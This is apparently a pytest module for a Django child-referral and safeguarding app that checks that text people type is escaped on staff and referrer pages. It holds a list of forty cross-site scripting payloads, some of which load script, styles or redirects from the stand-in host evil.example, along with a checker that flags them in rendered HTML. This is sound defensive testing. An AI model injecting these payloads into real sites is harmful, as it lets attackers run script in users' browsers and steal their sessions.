"""What people type is shown as what they typed, and never runs (security.md C2)."""

from itertools import cycle

import html5lib
import pytest
from django.db import models
from django.urls import reverse

from accounts.enums import Role
from referrals.models import Note, Referral, ReferredYoungPerson, SafetyAnswers
from tests.factories.accounts import MembershipFactory, UserFactory
from tests.factories.referrals import ReferralDraftFactory, ReferralFactory
from tests.factories.safeguarding import (
    ConcernActionFactory,
    ConcernFactory,
    EscalationFactory,
    ReplyFactory,
    YoungPersonToldFactory,
)
from tests.figures import figure
from tests.referrals.public import answers
from tests.visitors import referrer_client, staff_client

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>canary()</script>",
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</script><script>canary()</script>",
    "<ScRiPt>canary()</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<<script>canary();//<</script>",
    "<img src=x onerror=canary()>",
    "<img/src/onerror=canary()>",
    '<img src="x" onerror="canary()">',
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    '" onmouseover="canary()',
    "' onmouseover='canary()",
    '" autofocus onfocus="canary()" x="',
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<iframe src=javascript:canary()>",
    "<iframe srcdoc='<script>canary()</script>'>",
    "<object data=javascript:canary()>",
    "<embed src=javascript:canary()>",
    "<a href=javascript:canary()>x</a>",
    '<a href="java\tscript:canary()">x</a>',
    "javascript:canary()",
    "<form action=javascript:canary()><button>x",
    "<button formaction=javascript:canary()>x",
    "<body onload=canary()>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<details open ontoggle=canary()>",
    "<video><source onerror=canary()></video>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div data-exit=//evil.example/></div>",
    "{{ 7|add:7 }}{% debug %}",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "<!--><script>canary()</script>-->",
]


# Together every day, each alone in the deep run: what is escaped for one is escaped for all.
TOGETHER = figure(5, 1)
GROUPS = [PAYLOADS[first : first + TOGETHER] for first in range(0, len(PAYLOADS), TOGETHER)]


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


def faults(response):
    """What of a page is not ours: a script without a file of ours, a handler, a frame, an address that runs."""
    assert response.status_code == 200, response.status_code
    tree = html5lib.parse(response.content, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        attributes = {name if isinstance(name, str) else name[1]: value for name, value in element.attrib.items()}
        found += [f"{element.tag} {name}" for name in attributes if name.lower().startswith("on")]
        found += [
            f"{element.tag} {name}={value}"
            for name, value in attributes.items()
            if name in {"href", "src", "action", "formaction", "data", "hx-get", "hx-post"}
            and ("script:" in value.lower() or "evil.example" in value)
        ]
        if element.tag in {"iframe", "object", "embed", "base", "style", "math", "video", "animate"}:
            found.append(element.tag)
        if element.tag == "script" and not attributes.get("src", "").startswith("/static/"):
            found.append("script")
        if "srcdoc" in attributes or "style" in attributes:
            found.append(f"{element.tag} with srcdoc or style")
    return found


def text_of(response):
    tree = html5lib.parse(response.content, namespaceHTMLElements=False)
    return " ".join(" ".join(tree.itertext()).split())


def texts(model, payloads, *, but=()):
    """Every text field of ``model`` that people fill in: all payloads where there is room, else the next in turn."""
    fields, turn, whole = {}, cycle(payloads), " ".join(payloads)
    for field in model._meta.get_fields():
        is_text = isinstance(field, (models.CharField, models.TextField)) and not field.choices
        if is_text and field.name not in but:
            fits = field.max_length is None or len(whole) <= field.max_length
            fields[field.name] = whole if fits else next(turn)[: field.max_length]
    return fields


@pytest.fixture
def colleague():
    return MembershipFactory(user=UserFactory(with_factor=True), role=Role.TEAM_MANAGER)


@pytest.mark.parametrize("payloads", GROUPS)
def test_staff_read_what_was_typed_and_nothing_runs(payloads, colleague):
    payload = " ".join(payloads)
    words = {"decision__explanation": payload, "decision__suggestion": payload}
    referral = ReferralFactory(centre=colleague.centre, waiting=True, in_danger=True, **words)
    Referral.objects.update(**texts(Referral, payloads, but={"reference", "referrer_email"}))
    ReferredYoungPerson.objects.update(**texts(ReferredYoungPerson, payloads))
    SafetyAnswers.objects.update(**texts(SafetyAnswers, payloads))
    Note.objects.create(referral=referral, text=payload, by=colleague.user)
    concern = ConcernFactory(subject=referral.subject, what=payload, done_now=payload, acting=True)
    ReplyFactory(escalation=EscalationFactory(concern=concern, known=payload, not_known=payload), words=payload)
    ConcernActionFactory(concern=concern, what=payload[:300], done=True, words=payload)
    YoungPersonToldFactory(concern=concern, their_words=payload)
    client = staff_client(colleague.user)

    pages = [
        client.get(address)
        for address in [
            reverse("home"),
            reverse("triage:queue"),
            referral.get_absolute_url(),
            reverse("triage:decide", args=[referral.reference]),
            reverse("triage:second_person", args=[referral.reference]),
            reverse("safeguarding:concerns"),
            reverse("safeguarding:concern", args=[concern.key]),
        ]
    ]

    assert [faults(page) for page in pages] == [[]] * 7
    assert " ".join(payload.split()) in text_of(pages[2])


@pytest.mark.parametrize("payloads", GROUPS)
def test_referrers_read_their_own_words_and_nothing_runs(payloads):
    payload, turn = " ".join(payloads), cycle(payloads)
    email = "referrer@school.example"
    typed = answers.WHOLE
    draft = ReferralDraftFactory(
        email=email,
        answers={slug: {name: [next(turn)] for name in values} for slug, values in typed.items()},
    )
    words = {"decision__explanation": payload, "decision__suggestion": payload}
    sent = ReferralFactory(referrer_email=email, not_accepted=True, **words)
    client = referrer_client(email)

    pages = [client.get(reverse("refer:section", args=[draft.pk, slug])) for slug in typed]
    pages += [client.get(reverse("refer:check_answers", args=[draft.pk])), client.get(reverse("refer:mine"))]
    pages += [client.get(reverse("refer:outcome", args=[sent.form_token]))]

    assert [faults(page) for page in pages] == [[]] * (len(typed) + 3)
    assert " ".join(payload.split()) in text_of(pages[-1])
